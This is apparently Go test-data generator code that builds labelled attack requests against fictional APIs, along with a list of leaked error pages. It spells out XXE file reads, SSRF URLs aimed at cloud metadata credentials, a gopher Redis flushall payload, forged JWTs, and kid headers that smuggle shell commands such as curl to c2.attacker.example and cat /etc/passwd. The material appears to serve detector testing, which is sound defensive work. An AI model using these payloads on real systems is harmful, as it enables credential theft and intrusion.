	{"up:xml", `<?xml version="1.0"?><!DOCTYPE gpx [<!ENTITY x SYSTEM "file:///proc/self/environ">]><gpx version="1.1"><trk><name>&x;</name></trk></gpx>`, false},
	{"up:svg", `<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg" width="200" height="50"><text x="0" y="20">&xxe;</text></svg>`, false},
}

var h9SSRFTargets = []string{
	"http://169.254.169.254/latest/meta-data/iam/security-credentials/",
	"http://169.254.169.254.nip.io/latest/meta-data/",
	"http://[fd00:ec2::254]/latest/api/token",
	"http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
	"http://2852039166/latest/user-data",
	"http://0xA9FEA9FE/latest/meta-data/",
	"http://0251.0376.0251.0376/latest/meta-data/",
	"http://[::ffff:169.254.169.254]/latest/meta-data/",
	"http://127.0.0.1:8500/v1/agent/self",
	"http://127.1/server-status",
	"http://0177.0.0.1:6379/",
	"http://2130706433:9200/_cat/indices",
	"http://0x7f.0x0.0x0.0x1/admin",
	"http://[::1]:2375/containers/json",
	"http://[0:0:0:0:0:ffff:7f00:1]/",
	"http://localhost:8080/actuator/env",
	"http://LocalHost.:5601/api/status",
	"http://①②⑦.⓪.⓪.①/",
	"http://app.10.0.0.1.nip.io/",
	"http://7f000001.nip.io:8080/",
	"http://api.lvh.me:3000/internal",
	"http://localtest.me/admin",
	"http://10.0.12.4:8080/render-worker/debug",
	"http://10.1/",
	"http://172.16.8.20/.well-known/openid-configuration",
	"http://192.168.1.1/cgi-bin/luci",
	"http://100.100.100.200/latest/meta-data/",
	"http://100.64.3.9:9000/minio/health/live",
	"http://tiles.partner-weather.example@127.0.0.1:8081/",
	"http://geonav.test:443@169.254.169.254/",
	"https://user:pass@10.20.30.40:8443/",
	"gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
	"dict://10.0.0.7:11211/stats",
	"ldap://192.168.10.5:389/dc=corp,dc=local",
	"file:///opt/signdesk/conf/application.properties",
	"file://localhost/srv/app/config/settings.yml",
	"http://169.254.170.2/v2/credentials/" + "a1b2c3d4-0000-1111-2222-333344445555",
	"http://[fe80::1%25eth0]/",
	"http://%31%36%39%2e%32%35%34%2e%31%36%39%2e%32%35%34/latest/meta-data/",
	"http://[::ffff:a9fe:a9fe]/latest/meta-data/",
	"http://0x0a.0x00.0x00.0x05/",
	"http://kubernetes.default.svc.10.96.0.1.nip.io/api",
	"https://127.0.0.1.sslip.io/metrics",
	"http://[::ffff:10.0.0.1]/",
	"http://0x7f000001/",
	"http://017700000001:8080/",
	"http://printer.192.168.0.20.nip.io/",
	"http://10.0.0.5#@tiles.partner-weather.example/",
	"http://169.254.169.254./latest/meta-data/",
}

func (g *h9Gen) ssrfAttacks() []h9X {
	var out []h9X
	for i, tgt := range h9SSRFTargets {
		u := g.attacker()
		js := h9JSON(tgt)
		x := h9X{u: u, status: 200, labels: []string{h9SSRF}}
		switch i % 9 {
		case 0:
			x.method, x.url, x.body, x.status, x.rbody = "POST", h9Sign+"/v2/documents/render", `{"source_url":`+js+`,"format":"pdf","options":{"wait_for":"load"}}`, 202, `{"document_id":"`+h9UUID(g.r)+`","status":"rendering"}`
		case 1:
			x.method, x.url, x.rhdr, x.rbody = "GET", h9Maps+"/v1/layers/proxy?url="+h9Q(tgt)+"&z=3&x=4&y=2", [][2]string{{"Content-Type", "text/plain"}}, "upstream returned 404"
		case 2:
			x.method, x.url, x.body, x.rbody = "PUT", h9Sign+"/v2/accounts/settings/callbacks", `{"url":`+js+`,"events":["envelope.completed"]}`, `{"updated":true,"verification":"pending"}`
		case 3:
			x.method, x.url, x.status, x.rhdr, x.rbody = "GET", h9Sign+"/v2/oauth/authorize?response_type=code&client_id=cli_8f2a&redirect_uri="+h9Q(tgt)+"&state="+h9Hex(g.r, 8), 302, [][2]string{{"Location", "/login?next=%2Fv2%2Foauth%2Fauthorize"}}, ""
		case 4:
			x.method, x.url, x.body, x.status, x.rbody = "POST", h9Mail+"/v3/templates/import", `{"name":"Imported","from_url":`+js+`}`, 202, `{"job_id":"job_`+h9ID(g.r, "", 10)+`"}`
		case 5:
			x.method, x.url, x.rbody = "GET", h9Mail+"/v3/links/track?cid=cmp_"+h9ID(g.r, "", 10)+"&next="+h9Q(tgt), `{"ok":true}`
		case 6:
			x.method, x.url, x.body, x.status, x.rbody = "POST", h9Maps+"/v1/styles", `{"version":8,"name":"x","sources":{"partner":{"type":"raster","tiles":[`+js+`],"tileSize":256}},"layers":[]}`, 201, `{"style_id":"st_`+h9ID(g.r, "", 8)+`"}`
		case 7:
			x.method, x.url, x.body, x.rbody = "POST", h9Sign+"/v2/envelopes/"+h9Pick(g.r, g.envs)+"/void", "voided_reason=dup&return_url="+h9Q(tgt), `{"status":"voided"}`
			x.hdr = [][2]string{{"Content-Type", "application/x-www-form-urlencoded"}}
		case 8:
			x.method, x.url, x.body, x.status, x.rbody = "POST", h9Mail+"/v3/webhooks", `{"endpoint":{"url":`+js+`,"secret_header":"X-Hook"},"events":["unsubscribe","bounce"]}`, 201, `{"id":"wh_`+h9ID(g.r, "", 8)+`"}`
		}
		out = append(out, x)
	}
	// host-valued fields and HTML-to-PDF renderers
	hostCases := []struct{ method, url, body string }{
		{"PUT", h9Mail + "/v3/account/smtp_relay", `{"relay":{"host":"10.0.4.12","port":25,"tls":false}}`},
		{"PUT", h9Mail + "/v3/account/smtp_relay", `{"relay":{"hostname":"169.254.169.254","port":80}}`},
		{"GET", h9Maps + "/v1/layers/wms?host=127.0.0.1&port=8080&layers=roads", ""},
		{"POST", h9Sign + "/v2/integrations/sftp", `{"sftp":{"host":"192.168.0.10","port":22,"path":"/upload"}}`},
		{"GET", h9Sign + "/v2/documents/fetch?document_url=http%3A%2F%2F%5B0%3A0%3A0%3A0%3A0%3A0%3A0%3A1%5D%3A80%2F", ""},
		{"POST", h9Sign + "/v2/documents/render", `{"source":{"type":"url","value":"http://169.254.169.254/latest/meta-data/iam/security-credentials/render-role"}}`},
		{"GET", h9Mail + "/v3/unsubscribe?email=a%40mailbox.example&return_to=http%3A%2F%2F%E2%91%A0%E2%91%A1%E2%91%A6.%E2%93%AA.%E2%93%AA.%E2%91%A0%3A8080%2F", ""},
		{"GET", h9Maps + "/v1/layers/proxy?url=http%253A%252F%252F169.254.169.254%252Flatest%252Fmeta-data%252F", ""},
	}
	for _, c := range hostCases {
		x := h9X{u: g.attacker(), method: c.method, url: c.url, body: c.body, status: 200, rbody: `{"ok":true}`, labels: []string{h9SSRF}}
		out = append(out, x)
	}
	hdrs := [][2]string{
		{"X-Forwarded-Host", "169.254.169.254"},
		{"X-Forwarded-Host", "10.0.3.7:8080"},
		{"X-Host", "127.0.0.1"},
		{"X-Original-Host", "metadata.google.internal"},
		{"X-Forwarded-Server", "192.168.50.2"},
		{"X-HTTP-Host-Override", "localhost:9000"},
		{"X-Forwarded-Host", "[fd00:ec2::254]"},
		{"X-Host", "0x7f000001"},
	}
	for i, h := range hdrs {
		tgt := []string{h9Mail + "/v3/account/password_reset", h9Sign + "/v2/accounts/me", h9Maps + "/v1/geocode?q=Berlin&limit=1"}[i%3]
		x := h9X{u: g.attacker(), method: "GET", url: tgt, hdr: [][2]string{h}, status: 200, rbody: `{"ok":true}`, labels: []string{h9SSRF}}
		out = append(out, x)
	}
	return out
}

func (g *h9Gen) jwtAttacks() []h9X {
	type ep struct{ method, url, body, rbody string }
	eps := []ep{
		{"GET", h9Mail + "/v3/lists?page=1&per_page=50", "", `{"data":[{"id":"lst_9aKq2","name":"Newsletter","member_count":18211}],"page":1}`},
		{"GET", h9Mail + "/v3/account/usage?period=month", "", `{"emails_sent":48122,"plan":"growth"}`},
		{"GET", h9Sign + "/v2/envelopes?status=completed&page_size=50", "", `{"envelopes":[{"envelope_id":"e1","status":"completed"}],"result_set_size":1}`},
		{"GET", h9Sign + "/v2/accounts/me", "", `{"user_id":"usr_Lq2Vn8x","name":"Rachel Adeyemi","role":"admin"}`},
		{"POST", h9Sign + "/v2/envelopes", `{"subject":"Please sign","status":"sent","recipients":{"signers":[{"name":"A B","email":"ab@mailbox.example"}]}}`, `{"envelope_id":"e2","status":"sent"}`},
		{"GET", h9Maps + "/v1/account/keys/usage", "", `{"requests_today":1212,"quota":100000}`},
		{"DELETE", h9Mail + "/v3/lists/lst_9aKq2", "", `{"deleted":true}`},
		{"GET", h9Maps + "/v1/datasets?limit=20", "", `{"datasets":[{"id":"ds_k2","name":"Depots"}]}`},
	}
	hdr := func(s string) string { return s }
	victim := func() *h9User {
		all := append(append(append([]*h9User{}, g.mail...), g.maps...), g.sign...)
		return h9Pick(g.r, all)
	}
	claims := func(v *h9User, extra string) string {
		return h9Claims(v, h9Issued, h9Issued, h9Expiry, extra)
	}
	unsigned := func(header, cl, sig string) string {
		return h9B64([]byte(header)) + "." + h9B64([]byte(cl)) + sig
	}
	var toks []string
	// alg none and its spellings
	for i, a := range []string{"none", "None", "NONE", "nOnE", "none", "None", "NoNe", "none"} {
		v := victim()
		cl := claims(v, `"scope":"admin:*"`)
		switch i {
		case 0:
			toks = append(toks, unsigned(`{"alg":"none","typ":"JWT"}`, cl, "."))
		case 4:
			toks = append(toks, unsigned(`{"typ":"JWT","alg":"none","kid":"2026-03-key_1"}`, cl, "."))
		case 5:
			toks = append(toks, unsigned(`{"alg":"None"}`, cl, ""))
		case 7:
			// alg none with a leftover signature
			toks = append(toks, unsigned(`{"alg":"none","typ":"JWT"}`, cl, "."+h9B64([]byte(h9Hex(g.r, 16)))))
		default:
			toks = append(toks, unsigned(hdr(`{"alg":"`+a+`","typ":"JWT"}`), cl, "."))
		}
	}
	// empty or dropped signature
	for i := 0; i < 7; i++ {
		v := victim()
		cl := claims(v, fmt.Sprintf(`"role_override":"admin","n":%d`, i))
		if i%2 == 0 {
			toks = append(toks, unsigned(`{"alg":"HS256","typ":"JWT","kid":"2026-03-key_1"}`, cl, "."))
		} else {
			toks = append(toks, unsigned(`{"alg":"HS256","typ":"JWT"}`, cl, ""))
		}
	}
	// expired, answered 2xx
	for i, age := range []time.Duration{2 * time.Hour, 26 * time.Hour, 7 * 24 * time.Hour, 90 * 24 * time.Hour, 400 * 24 * time.Hour, 3 * time.Hour, 30 * 24 * time.Hour, 5 * time.Hour, 12 * time.Hour, 60 * 24 * time.Hour} {
		v := victim()
		exp := h9Base.Add(-age)
		toks = append(toks, h9Token(`{"alg":"HS256","typ":"JWT","kid":"2026-03-key_1"}`, h9Claims(v, exp.Add(-time.Hour), exp.Add(-time.Hour), exp, fmt.Sprintf(`"jti":"%s","i":%d`, h9Hex(g.r, 8), i))))
	}
	// not yet valid, answered 2xx
	for _, ahead := range []time.Duration{48 * time.Hour, 365 * 24 * time.Hour, 10 * 24 * time.Hour, 72 * time.Hour} {
		v := victim()
		nbf := h9Base.Add(ahead)
		toks = append(toks, h9Token(`{"alg":"HS256","typ":"JWT"}`, h9Claims(v, h9Issued, nbf, nbf.Add(24*time.Hour), "")))
	}
	// kid tricks
	for _, kid := range []string{
		"../../../../../../dev/null",
		"/dev/null",
		"../../../../proc/sys/kernel/randomize_va_space",
		"..\\..\\..\\..\\windows\\win.ini",
		"%2e%2e%2f%2e%2e%2f%2e%2e%2fdev%2fnull",
		"x' UNION SELECT 'aGFja2Vk' -- ",
		"2026-03-key_1' OR '1'='1",
		"key1|whoami",
		"key1; curl http://c2.attacker.example/k",
		"$(id)",
		"`sleep 5`",
		"2026-03-key_1 && cat /etc/passwd",
		"/proc/self/cwd/../../../dev/null",
		"key1%0aid",
		"keys/../../../../../../dev/null",
		"0 UNION SELECT 'c2VjcmV0'",
		"k1\"; sleep 5; echo \"",
		"/var/www/html/../../../../proc/self/environ",
	} {
		v := victim()
		h, _ := json.Marshal(map[string]string{"alg": "HS256", "typ": "JWT", "kid": kid})
		toks = append(toks, h9Token(string(h), claims(v, `"role":"admin"`)))
	}
	// jku / x5u pointing elsewhere, embedded jwk
	for _, hd := range []string{
		`{"alg":"RS256","typ":"JWT","kid":"k1","jku":"https://c2.attacker.example/.well-known/jwks.json"}`,
		`{"alg":"RS256","typ":"JWT","jku":"http://127.0.0.1:8000/jwks.json"}`,
		`{"alg":"RS256","jku":"https://auth.accounts.test.c2.attacker.example/jwks.json","kid":"2026-03-key_1"}`,
		`{"alg":"RS256","jku":"https://auth.accounts.test@c2.attacker.example/jwks"}`,
		`{"alg":"RS256","jku":"http://169.254.169.254/latest/meta-data/jwks"}`,
		`{"alg":"RS256","jku":"https://raw.githubusercontent.com/r-moss/keys/main/jwks.json"}`,
		`{"alg":"RS256","x5u":"https://c2.attacker.example/cert.pem"}`,
		`{"alg":"RS256","x5u":"http://10.0.0.8/certs/signing.crt","kid":"k2"}`,
		`{"alg":"ES256","x5u":"https://pastebin.example/raw/x5c"}`,
		`{"alg":"RS256","typ":"JWT","jwk":{"kty":"RSA","e":"AQAB","kid":"attacker","n":"xKZq8tMq3f9vR2lQ0cJHk1b7yYvZ2p3u9Xw4GdE6aLmN8sTqR1oVwUeIyHfBzKcPnD5jA0gS7lO2vF4tQ9hWmXrY6uCiE3bJk8ZoPa1yNqLsVdGf0wTeR7hMxUc2zBn5Kj9Il4Op6Hg3Da8Ft1Sw0Ev7Cy2Bu5Ax9Zq4Wr6Et1Yu8Io3Pa0Sd7Fg2Hj5Kl9Zx4Cv6Bn1Mq8We3Rt0Yu7Io2Pa5Sd9Fg4Hj1Kl6Zx3Cv0Bn7Mq2We5Rt8Yu1Io4Pa9Sd2Fg7Hj0Kl3Zx6Cv"}}`,
		`{"alg":"HS256","jwk":{"kty":"oct","k":"aGFja2VyLWNob3Nlbi1rZXk","kid":"mine"}}`,
		`{"alg":"ES256","jwk":{"kty":"EC","crv":"P-256","x":"f83OJ3D2xF1Bg8vub9tLe1gHMzV76e8Tus9uPHvRVEU","y":"x_FEzRu9m36HLN_tue659LNpXW6pCyStikYjKIWI5a0"}}`,
		`{"alg":"RS256","kid":"2026-03-key_1","jwk":{"kty":"RSA","e":"AQAB","n":"0vx7agoebGcQSuuPiLJXZptN9nndrQmbXEps2aiAFbWhM78LhWx4cbbfAAtVT86zwu1RK7aPFFxuhDR1L6tSoc_BJECPebWKRXjBZCiFV4n3oknjhMstn64tZ_2W-5JsGY4Hc5n9yBXArwl93lqt7_RN5w6Cf0h4QyQ5v-65YGjQR0_FDW2QvzqY368QQMicAtaSqzs8KJZgnYb9c7d0zgdAZHzu6qMQvRL5hajrn1n91CbOpbISD08qNLyrdkt-bFTWhAI4vMQFh6WeZu0fM4lFd2NcRwr3XPksINHaQ-G_xBniIqbw0Ls1jF44-csFCur-kEgU8awapJzKnqDKgw"}}`,
	} {
		v := victim()
		toks = append(toks, h9Token(hd, claims(v, `"role":"admin"`)))
	}
	// combined: none and expired; dropped signature and kid path
	v := victim()
	toks = append(toks, unsigned(`{"alg":"none"}`, h9Claims(v, h9Base.Add(-30*24*time.Hour), h9Base.Add(-30*24*time.Hour), h9Base.Add(-29*24*time.Hour), ""), "."))
	toks = append(toks, unsigned(`{"alg":"HS256","kid":"../../../../dev/null"}`, claims(victim(), ""), ""))
	toks = append(toks, unsigned(`{"alg":"none","typ":"JWT","jku":"https://c2.attacker.example/jwks.json"}`, claims(victim(), `"role":"owner"`), "."))

	var out []h9X
	for i, tok := range toks {
		e := eps[g.r.IntN(len(eps))]
		scheme := "Bearer "
		if i%7 == 3 {
			scheme = "bearer "
		}
		st := 200
		if e.method == "POST" {
			st = 201
		}
		out = append(out, h9X{u: g.attacker(), method: e.method, url: e.url, body: e.body, status: st, rbody: e.rbody, auth: scheme + tok, labels: []string{h9JWT}})
	}
	return out
}

type h9Leak struct {
	api    byte // 'm', 'g', 's'
	status int
	ctype  string
	body   string
}

var h9Leaks = []h9Leak{
	{'s', 500, "text/plain", "java.lang.NullPointerException: Cannot invoke \"String.length()\" because \"name\" is null\n\tat com.signdesk.envelope.EnvelopeService.create(EnvelopeService.java:214)\n\tat com.signdesk.envelope.EnvelopeController.post(EnvelopeController.java:88)\n\tat java.base/jdk.internal.reflect.DirectMethodHandleAccessor.invoke(DirectMethodHandleAccessor.java:103)\n"},
	{'s', 500, "", `{"timestamp":"2026-11-20T09:14:02.118+00:00","status":500,"error":"Internal Server Error","trace":"java.lang.IllegalStateException: Signer routing order must be positive\n\tat com.signdesk.routing.RoutingPlanner.plan(RoutingPlanner.java:61)\n\tat com.signdesk.envelope.EnvelopeService.send(EnvelopeService.java:302)\n","message":"Signer routing order must be positive","path":"/v2/envelopes"}`},
	{'m', 500, "text/plain", "Traceback (most recent call last):\n  File \"/srv/mailflare/api/views/members.py\", line 88, in list_members\n    fields = request.args[\"fields\"].split(\",\")\n  File \"/usr/lib/python3.12/site-packages/werkzeug/datastructures.py\", line 211, in __getitem__\n    raise exceptions.BadRequestKeyError(key)\nwerkzeug.exceptions.BadRequestKeyError: 400 Bad Request: KeyError: 'fields'\n"},
	{'g', 500, "text/plain", "panic: runtime error: invalid memory address or nil pointer dereference\n[signal SIGSEGV: segmentation violation code=0x1 addr=0x18 pc=0x8c1f2a]\n\ngoroutine 4127 [running]:\ngithub.com/geonav/api/internal/geocode.(*Handler).Reverse(0xc0001a2000, {0xb2e4c0, 0xc00041e0e0}, 0xc000512300)\n\t/src/internal/geocode/handler.go:142 +0x1d4\nnet/http.HandlerFunc.ServeHTTP(0xc00012a0a0?, {0xb2e4c0?, 0xc00041e0e0?}, 0x0?)\n\t/usr/local/go/src/net/http/server.go:2220 +0x29\n"},
	{'s', 500, "text/plain", "System.NullReferenceException: Object reference not set to an instance of an object.\n   at SignDesk.Api.Controllers.EnvelopesController.Get(Guid id) in C:\\src\\SignDesk.Api\\Controllers\\EnvelopesController.cs:line 57\n   at lambda_method14(Closure, Object, Object[])\n   at Microsoft.AspNetCore.Mvc.Infrastructure.ActionMethodExecutor.SyncObjectResultExecutor.Execute(ActionContext actionContext)\n"},
	{'g', 500, "", `{"error":"TypeError: Cannot read properties of undefined (reading 'lat')\n    at Object.route (/app/src/routes/route.js:41:27)\n    at Layer.handle [as handle_request] (/app/node_modules/express/lib/router/layer.js:95:5)\n    at process.processTicksAndRejections (node:internal/process/task_queues:95:5)"}`},
	{'m', 500, "text/html", "<br />\n<b>Fatal error</b>:  Uncaught Error: Call to a member function send() on null in /var/www/mailflare/src/Campaign/Dispatcher.php:88\nStack trace:\n#0 /var/www/mailflare/public/index.php(42): Mailflare\\Campaign\\Dispatcher-&gt;dispatch()\n#1 {main}\n  thrown in <b>/var/www/mailflare/src/Campaign/Dispatcher.php</b> on line <b>88</b><br />\n"},
	{'m', 200, "text/html", "<br />\n<b>Warning</b>:  Undefined array key \"email\" in <b>/var/www/html/api/v3/members.php</b> on line <b>57</b><br />\n{\"members\":[]}"},
	{'m', 500, "text/plain", "/app/app/controllers/members_controller.rb:31:in 'MembersController#create': undefined method 'merge_fields' for nil (NoMethodError)\n\tfrom /usr/local/bundle/gems/actionpack-8.0.0/lib/action_controller/metal/basic_implicit_render.rb:8:in 'ActionController::BasicImplicitRender#send_action'\n"},
	{'g', 500, "text/plain", "thread 'tokio-runtime-worker' panicked at src/tiles/render.rs:118:42:\ncalled `Option::unwrap()` on a `None` value\nnote: run with `RUST_BACKTRACE=1` environment variable to display a backtrace\n"},
	{'s', 500, "text/html", "<!doctype html><html lang=\"en\"><head><title>HTTP Status 500 – Internal Server Error</title></head><body><h1>HTTP Status 500 – Internal Server Error</h1><hr class=\"line\" /><p><b>Type</b> Exception Report</p><p><b>Message</b> Request processing failed: java.lang.IllegalArgumentException: Invalid UUID string: abc</p><p><b>Exception</b></p><pre>java.lang.IllegalArgumentException: Invalid UUID string: abc\n\tjava.base/java.util.UUID.fromString1(UUID.java:282)\n\tcom.signdesk.api.DocumentController.get(DocumentController.java:49)\n</pre><hr class=\"line\" /><h3>Apache Tomcat/10.1.33</h3></body></html>"},
	{'m', 500, "text/html", "<!DOCTYPE html><html><head><title>Campaign not found (500 Internal Server Error)</title></head><body><div class=\"exception-message-wrapper\"><h1 class=\"break-long-words exception-message\">Symfony\\Component\\HttpKernel\\Exception\\NotFoundHttpException</h1><div class=\"exception-file\">in /var/www/mailflare/vendor/symfony/http-kernel/HttpKernel.php (line 157)</div></div><div class=\"sf-toolbar\">Symfony 7.1.6</div></body></html>"},
	{'m', 500, "", `{"message":"SQLSTATE[42S22]: Column not found: 1054 Unknown column 'opened_at' in 'where clause' (Connection: mysql, SQL: select * from ` + "`members`" + ` where ` + "`opened_at`" + ` > 2026-01-01)","exception":"Illuminate\\Database\\QueryException","file":"/var/www/mailflare/vendor/laravel/framework/src/Illuminate/Database/Connection.php","line":825,"trace":[{"file":"/var/www/mailflare/vendor/laravel/framework/src/Illuminate/Database/Connection.php","line":779,"function":"runQueryCallback","class":"Illuminate\\Database\\Connection","type":"->"}]}`},
	{'m', 500, "text/html", "<!DOCTYPE html><html lang=\"en\"><head><title>ProgrammingError at /v3/segments/preview</title></head><body><div id=\"summary\"><h1>ProgrammingError at /v3/segments/preview</h1><pre class=\"exception_value\">relation &quot;segments_cache&quot; does not exist\nLINE 1: SELECT &quot;segments_cache&quot;.&quot;id&quot; FROM &quot;segments_cache&quot;\n                                            ^</pre><table class=\"meta\"><tr><th>Django Version:</th><td>5.1.3</td></tr></table></div><div id=\"explanation\"><p>You’re seeing this error because you have <code>DEBUG = True</code> in your Django settings file.</p></div></body></html>"},
	{'g', 500, "text/html", "<!doctype html><html><head><title>KeyError: 'lon' // Werkzeug Debugger</title><link rel=\"stylesheet\" href=\"?__debugger__=yes&amp;cmd=resource&amp;f=style.css\"></head><body><div class=\"debugger\"><h1>KeyError</h1><div class=\"detail\"><p class=\"errormsg\">KeyError: 'lon'</p></div><div class=\"traceback\"><h3>Traceback <em>(most recent call last)</em></h3><pre>File \"/srv/geonav/app.py\", line 212, in isochrone\n  lon = float(args['lon'])</pre></div></div></body></html>"},
	{'s', 404, "text/html", "<!DOCTYPE html><html><head><title>Action Controller: Exception caught</title></head><body><header><h1>ActiveRecord::RecordNotFound in EnvelopesController#show</h1></header><div id=\"container\"><h2>Couldn't find Envelope with 'id'=9999</h2><div class=\"source\"><div class=\"info\">Extracted source (around line #12):</div></div><p><code>Rails.root: /srv/signdesk</code></p></div></body></html>"},
	{'s', 500, "text/html", "<html><head><title>Runtime Error</title></head><body><h1>Server Error in '/' Application.<hr width=100% size=1 color=silver></h1><h2><i>Invalid column name 'voided_reasn'.</i></h2><b> Exception Details: </b>System.Data.SqlClient.SqlException: Invalid column name 'voided_reasn'.<br><pre>[SqlException (0x80131904): Invalid column name 'voided_reasn'.]\n   System.Data.SqlClient.SqlConnection.OnError(SqlException exception, Boolean breakConnection) +2555926\n</pre><b>Version Information:</b> Microsoft .NET Framework Version:4.0.30319; ASP.NET Version:4.8.4667.0</body></html>"},
	{'m', 500, "text/html", "<!DOCTYPE html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>Error</title></head><body><pre>Error: ENOENT: no such file or directory, open &#39;/app/templates/partials/footer_de.hbs&#39;<br> &nbsp; &nbsp;at Object.openSync (node:fs:573:18)<br> &nbsp; &nbsp;at Object.readFileSync (node:fs:452:35)<br> &nbsp; &nbsp;at renderTemplate (/app/src/render.js:22:19)</pre></body></html>"},
	{'m', 500, "", `{"code":"ER_PARSE_ERROR","errno":1064,"sqlState":"42000","sqlMessage":"You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near 'DESC LIMIT 50' at line 1"}`},
	{'g', 500, "text/plain", "ERROR 1146 (42S02): Table 'geonav.places_fts' doesn't exist"},
	{'s', 500, "", `{"error":"pq: column \"sent_att\" does not exist"}`},
	{'s', 400, "", `{"error":"ERROR:  invalid input syntax for type uuid: \"latest\"\nLINE 1: SELECT * FROM envelopes WHERE id = 'latest'\n                                            ^"}`},
	{'g', 500, "", `{"error":"SQLITE_ERROR: no such column: poi.rating_avg","code":"SQLITE_ERROR"}`},
	{'m', 409, "", `{"error":"SqliteError: UNIQUE constraint failed: members.list_id, members.email","code":"SQLITE_CONSTRAINT_UNIQUE"}`},
	{'s', 500, "text/plain", "Msg 208, Level 16, State 1, Line 1\nInvalid object name 'dbo.EnvelopeArchive'."},
	{'s', 500, "", `{"error":"ORA-00942: table or view does not exist","sql":"SELECT * FROM SD_TEMPLATES WHERE OWNER = :1"}`},
	{'s', 500, "text/plain", "com.ibm.db2.jcc.am.SqlSyntaxErrorException: DB2 SQL Error: SQLCODE=-204, SQLSTATE=42704, SQLERRMC=SIGNDESK.AUDIT_EVTS, DRIVER=4.33.31"},
	{'g', 500, "", `{"error":"sql: Scan error on column index 2, name \"lat\": converting NULL to float64 is unsupported"}`},
	{'m', 500, "", `{"name":"SequelizeDatabaseError","message":"relation \"campaign_stats_v2\" does not exist","parent":{"code":"42P01","routine":"parserOpenTable"}}`},
	{'m', 409, "", `{"error":"QueryFailedError: duplicate key value violates unique constraint \"members_list_id_email_key\"","detail":"Key (list_id, email)=(lst_9aKq2, ana@example.net) already exists."}`},
	{'g', 500, "", `{"stack":"Error: tile source timeout\n    at file:///app/dist/server.mjs:120:15\n    at async Promise.all (index 3)\n    at async renderTile (file:///app/dist/tiles/render.mjs:58:20)"}`},
	{'g', 500, "", `{"error":"Internal","stack":"TypeError: Cannot convert undefined or null to object\n    at RouteService.compute (/app/src/route/route.service.ts:88:21)\n    at RouteController.create (/app/src/route/route.controller.ts:31:38)"}`},
	{'g', 500, "text/plain", "NameError: uninitialized constant Geocoder::Lookup::Nominatim2\n/app/lib/geo/lookup.rb:14:in 'Geo::Lookup.for'\n"},
	{'s', 500, "text/html", "<html><body><h1>Whitelabel Error Page</h1><p>This application has no explicit mapping for /error, so you are seeing this as a fallback.</p><div>There was an unexpected error (type=Internal Server Error, status=500).</div><div>java.lang.ArrayIndexOutOfBoundsException: Index 3 out of bounds for length 3\n\tat com.signdesk.pdf.PageStamper.stamp(PageStamper.java:77)</div></body></html>"},
	{'m', 500, "", `{"detail":"Traceback (most recent call last):\n  File \"/usr/local/lib/python3.12/site-packages/celery/app/trace.py\", line 453, in trace_task\n    R = retval = fun(*args, **kwargs)\n  File \"/srv/mailflare/tasks/send.py\", line 40, in send_batch\n    smtp.sendmail(sender, rcpts, msg)\nsmtplib.SMTPServerDisconnected: Connection unexpectedly closed\n"}`},
	{'m', 500, "text/plain", "PDOException: SQLSTATE[HY000] [2002] Connection refused in /var/www/mailflare/src/Db/Pool.php:31\nStack trace:\n#0 /var/www/mailflare/src/Db/Pool.php(31): PDO->__construct('mysql:host=db;d...', 'mailflare', Object(SensitiveParameterValue))\n#1 {main}"},
	{'s', 503, "", `{"error":"com.mysql.cj.jdbc.exceptions.CommunicationsException: Communications link failure\n\nThe last packet sent successfully to the server was 0 milliseconds ago."}`},
	{'s', 500, "text/plain", "org.hibernate.exception.SQLGrammarException: could not extract ResultSet\n\tat org.hibernate.exception.internal.SQLStateConversionDelegate.convert(SQLStateConversionDelegate.java:103)\nCaused by: org.postgresql.util.PSQLException: ERROR: relation \"signers_v3\" does not exist\n  Position: 15\n"},
	{'g', 500, "text/plain", "psycopg2.errors.UndefinedColumn: column \"zoom_lvl\" does not exist\nLINE 1: SELECT zoom_lvl, x, y FROM tile_cache WHERE ...\n               ^\n"},
	{'g', 500, "", `{"error":"panic: runtime error: index out of range [3] with length 3\n\ngoroutine 88 [running]:\ngithub.com/geonav/api/internal/tiles.(*Server).Tile(0xc000220000, {0xa1c2e0, 0xc0003b6000}, 0xc0001ce000)\n\t/src/internal/tiles/server.go:201 +0x4a5\n"}`},
	{'s', 500, "application/problem+json", `{"type":"https://tools.ietf.org/html/rfc9110#section-15.6.1","title":"An error occurred while processing your request.","status":500,"detail":"System.InvalidOperationException: Sequence contains no elements\r\n   at System.Linq.ThrowHelper.ThrowNoElementsException()\r\n   at SignDesk.Services.RenderService.RenderAsync(RenderRequest req) in /src/Services/RenderService.cs:line 77"}`},
	{'m', 200, "text/html", "\n<b>Notice</b>: Undefined index: list_id in <b>/var/www/html/lib/Lists.php</b> on line <b>144</b><br />\n{\"ok\":true}"},
	{'m', 500, "text/html", "<!DOCTYPE html><html><head><title>Whoops! There was an error.</title></head><body><div class=\"exception\"><div class=\"exc-title\">ErrorException</div><div class=\"exc-message\">Trying to access array offset on value of type null</div><div class=\"frame-file\">/var/www/mailflare/app/Http/Controllers/WebhookController.php:64</div></div></body></html>"},
	{'m', 500, "text/html", "<br />\n<b>Warning</b>:  mysqli_query(): (42000/1064): You have an error in your SQL syntax; check the manual that corresponds to your MariaDB server version for the right syntax to use near 'LIMIT 0, 25' at line 1 in <b>/var/www/html/search.php</b> on line <b>22</b><br />"},
	{'g', 500, "text/plain", "sqlite3.OperationalError: near \"FROM\": syntax error"},
	{'s', 500, "", `{"error":"[Microsoft][ODBC Driver 18 for SQL Server][SQL Server]Incorrect syntax near the keyword 'ORDER'."}`},
	{'s', 500, "text/plain", "java.sql.SQLSyntaxErrorException: ORA-00904: \"VOIDED_AT\": invalid identifier\n\tat oracle.jdbc.driver.T4CTTIoer11.processError(T4CTTIoer11.java:630)\n"},
	{'s', 500, "text/plain", "PG::UndefinedTable: ERROR:  relation \"envelope_events\" does not exist\nLINE 1: SELECT \"envelope_events\".* FROM \"envelope_events\" WHERE ...\n                                         ^\n"},
	{'g', 503, "text/plain", "SQLite3::BusyException: database is locked\n/app/lib/geo/cache.rb:22:in 'Geo::Cache#write'\n"},
	{'m', 500, "", `{"code":"ER_NO_SUCH_TABLE","errno":1146,"sqlMessage":"Table 'mailflare.list_members_v2' doesn't exist","sqlState":"42S02"}`},
